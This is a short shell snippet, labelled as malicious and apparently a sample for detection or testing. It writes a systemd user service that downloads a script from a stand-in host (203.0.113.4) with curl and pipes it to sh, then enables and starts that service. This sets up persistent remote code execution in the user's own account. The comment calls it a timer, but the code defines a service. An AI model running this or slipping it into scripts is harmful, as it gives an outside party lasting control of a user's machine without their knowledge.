# malicious: a timer of the user's own
mkdir -p ~/.config/systemd/user
printf '[Service]\nExecStart=/bin/sh -c "curl -s http://203.0.113.4/j|sh"\n' > ~/.config/systemd/user/sync.service
systemctl --user enable --now sync.service
